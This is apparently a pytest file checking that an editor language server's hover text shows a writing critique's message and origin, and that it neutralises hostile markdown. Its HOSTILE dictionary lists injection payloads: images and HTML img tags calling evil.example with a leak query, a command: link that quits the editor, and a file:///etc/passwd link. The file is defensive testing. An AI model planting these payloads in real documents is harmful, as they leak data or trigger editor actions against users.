"""Hovers: what a note says and whence it is, safe to show."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

import pytest

from copydesk.lsp.wording import markdown
from harness.critiqued import URI, ready
from harness.editor import NEOVIM, VSCODE, Editor
from harness.scripted import ScriptedDesk, services

if TYPE_CHECKING:
    from conftest import Connect
    from harness.editor import Personality

HOSTILE = {
    "an image": "![flaw](https://evil.example/?leak=1)",
    "a reference image": "flaw ![x][1]\n\n[1]: https://evil.example/y",
    "HTML": "flaw <img src=https://evil.example/x>",
    "a command link": "flaw [x](command:workbench.action.quit)",
    "a file link": "flaw [x](file:///etc/passwd)",
    "another editor link": "flaw [x](vscode://settings)",
    "a fence": "flaw\n```\n![x](https://evil.example)\n",
}


async def hovered(editor: Editor, words: str) -> Any:
    """Return what hovering over some words shows."""
    at = editor.position(URI, words)
    return await editor.request("textDocument/hover", {"textDocument": {"uri": URI}, "position": at})


async def test_hover_tells_message_reason_code_and_origin(connect: Connect, personality: Personality) -> None:
    editor = await ready(connect, personality)
    contents = (await hovered(editor, "flaw"))["contents"]
    assert contents["kind"] == "markdown"
    assert "**Flawed: One flaw is here 👩‍🚀.**" in contents["value"]
    assert "\n\nCD104 · Found by the model, 75 % sure. critic: scripted" in contents["value"]
    assert await hovered(editor, "Title") is None


async def test_hover_in_plain_text_where_the_client_reads_no_markdown(connect: Connect) -> None:
    editor = (await connect(NEOVIM)).editor
    await editor.initialize(textDocument={"hover": {"contentFormat": ["plaintext"]}})
    editor.open(URI, "A very short text.\n")
    await editor.notes(URI, "Very is weak.")
    contents = (await hovered(editor, "very"))["contents"]
    assert contents["kind"] == "plaintext"
    assert contents["value"].startswith("Very is weak.\n")


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
async def test_R27_a_hover_fetches_and_runs_nothing(connect: Connect, source: str) -> None:
    from markdown_it import MarkdownIt

    desk = ScriptedDesk(words=source)
    editor = (await connect(VSCODE, services(desk))).editor
    await editor.initialize()
    editor.open(URI, "One flaw stands in this sentence.\n")
    await editor.command("copydesk.critiqueDocument", uri=URI)
    (note,) = await editor.until(lambda: editor.diagnostics.get(URI))
    await editor.command("copydesk.rewriteNote", noteId=note["data"]["id"])
    await editor.ended(2)
    value = (await hovered(editor, "flaw"))["contents"]["value"]
    html = MarkdownIt("commonmark").render(value + "\n\n" + markdown(source))
    assert re.findall(r"<(?!/?(?:p|strong|a|pre|code|hr)\b)", html) == []
    assert re.findall(r'(?:href|src)="([^"]*)"', html) == []
